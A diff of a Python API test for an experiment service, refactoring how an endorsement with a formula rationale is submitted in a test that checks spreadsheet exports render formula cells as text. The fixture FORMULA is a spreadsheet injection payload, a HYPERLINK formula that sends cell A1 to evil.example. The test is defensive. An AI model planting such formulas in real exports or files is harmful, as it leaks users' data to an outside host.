@@ -6,7 +6,7 @@ from __future__ import annotations
 import csv
 import io
 
-from tests.api.conftest import Stack, experiment_body, open_session, projected
+from tests.api.conftest import Stack, endorse_by_round, experiment_body, open_session, projected
 from tests.api.test_contract import PLAN, decide, start
 from tests.api.test_webhooks import delivery, in_act
 
@@ -16,7 +16,7 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Bekijk bijlage")'
 async def test_formula_cells_in_both_exports_are_text(stack: Stack) -> None:
     eid = (await start(stack, title="+ gratis energiecoach"))["id"]
     await decide(stack, eid, {**PLAN, "rationale": "-1 bezwaar"})
-    last = await decide(stack, eid, {"type": "endorse_plan", "rationale": FORMULA}, who="resident")
+    last = await endorse_by_round(stack, eid, rationale=FORMULA)
     api = await stack.client.get(
         f"/v1/experiments/{eid}/decisions",
         params={"min_position": last["position"]},
